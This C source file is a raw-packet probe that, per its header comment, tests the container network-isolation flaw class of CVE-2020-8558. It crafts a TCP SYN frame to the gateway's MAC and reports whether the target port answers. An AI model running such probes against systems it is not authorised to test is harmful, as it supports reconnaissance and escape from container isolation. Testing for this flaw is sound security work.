/* A container's raw-frame probe (CVE-2020-8558's class): a TCP SYN in an Ethernet frame to the
 * gateway's MAC with destination DST:PORT, sent on eth0 with AF_PACKET (CAP_NET_RAW, which
 * docker's default set has); prints "synack" if DST:PORT answered, "rst" if refused, else
 * "nothing". Usage: probe DST PORT GATEWAY */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static unsigned short sum(const void *p, int n, unsigned int acc) {
    const unsigned short *w = p;
    for (; n > 1; n -= 2) acc += *w++;
    if (n) acc += *(const unsigned char *)w;
    while (acc >> 16) acc = (acc & 0xffff) + (acc >> 16);
    return ~acc;
}

static int gateway_mac(const char *gw, unsigned char *mac) {
    for (int tries = 0; tries < 20; tries++) {
        FILE *f = fopen("/proc/net/arp", "r");
        char line[256], ip[64], hw[64];
        int found = 0;
        while (f && fgets(line, sizeof line, f))
            if (sscanf(line, "%63s %*s %*s %63s", ip, hw) == 2 && !strcmp(ip, gw) &&
                strcmp(hw, "00:00:00:00:00:00"))
                found = sscanf(hw, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", mac, mac + 1, mac + 2,
                               mac + 3, mac + 4, mac + 5) == 6;
        if (f) fclose(f);
        if (found) return 0;
        int u = socket(AF_INET, SOCK_DGRAM, 0); /* makes the kernel resolve the gateway */
        struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(9)};
        inet_pton(AF_INET, gw, &a.sin_addr);
        sendto(u, "x", 1, 0, (struct sockaddr *)&a, sizeof a);
        close(u);
        usleep(100000);
    }
    return -1;
}

int main(int argc, char **argv) {
    if (argc != 4) return 2;
    struct in_addr dst, me;
    unsigned short port = atoi(argv[2]), sport = 40000 + getpid() % 20000;
    unsigned char gw[6], own[6], frame[54] = {0};
    inet_pton(AF_INET, argv[1], &dst);
    if (gateway_mac(argv[3], gw)) { puts("no-gateway-mac"); return 3; }
    int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
    if (s < 0) { perror("socket"); return 3; }
    struct ifreq ifr = {0};
    strcpy(ifr.ifr_name, "eth0");
    if (ioctl(s, SIOCGIFHWADDR, &ifr)) { perror("hwaddr"); return 3; }
    memcpy(own, ifr.ifr_hwaddr.sa_data, 6);
    if (ioctl(s, SIOCGIFADDR, &ifr)) { perror("addr"); return 3; }
    me = ((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr;
    if (ioctl(s, SIOCGIFINDEX, &ifr)) { perror("index"); return 3; }
    struct ether_header *eh = (void *)frame;
    struct iphdr *ip = (void *)(frame + 14);
    struct tcphdr *tcp = (void *)(frame + 34);
    memcpy(eh->ether_dhost, gw, 6);
    memcpy(eh->ether_shost, own, 6);
    eh->ether_type = htons(ETHERTYPE_IP);
    ip->version = 4; ip->ihl = 5; ip->tot_len = htons(40); ip->ttl = 64;
    ip->protocol = IPPROTO_TCP; ip->saddr = me.s_addr; ip->daddr = dst.s_addr;
    ip->frag_off = htons(IP_DF);
    ip->check = sum(ip, 20, 0);
    tcp->source = htons(sport); tcp->dest = htons(port); tcp->seq = htonl(12345);
    tcp->doff = 5; tcp->syn = 1; tcp->window = htons(64240);
    struct { unsigned int s, d; unsigned char z, p; unsigned short l; } ph =
        {me.s_addr, dst.s_addr, 0, IPPROTO_TCP, htons(20)};
    unsigned char buf[sizeof ph + 20];
    memcpy(buf, &ph, sizeof ph);
    memcpy(buf + sizeof ph, tcp, 20);
    tcp->check = sum(buf, sizeof buf, 0);
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = ifr.ifr_ifindex,
                             .sll_halen = 6, .sll_protocol = htons(ETH_P_IP)};
    memcpy(to.sll_addr, gw, 6);
    if (sendto(s, frame, sizeof frame, 0, (struct sockaddr *)&to, sizeof to) < 0) {
        perror("sendto"); return 3;
    }
    time_t end = time(NULL) + 2;
    while (time(NULL) <= end) {
        struct pollfd p = {.fd = s, .events = POLLIN};
        if (poll(&p, 1, 200) <= 0) continue;
        unsigned char in[2048];
        ssize_t n = recv(s, in, sizeof in, 0);
        if (n < 14 + 20 + 20) continue;
        struct iphdr *rip = (void *)in;  /* SOCK_RAW: frames with the link header */
        rip = (void *)(in + 14);
        struct tcphdr *rt = (void *)(in + 14 + rip->ihl * 4);
        if (rip->protocol != IPPROTO_TCP || rip->saddr != dst.s_addr ||
            ntohs(rt->source) != port || ntohs(rt->dest) != sport) continue;
        puts(rt->syn && rt->ack ? "synack" : rt->rst ? "rst" : "other");
        return 0;
    }
    puts("nothing");
    return 0;
}
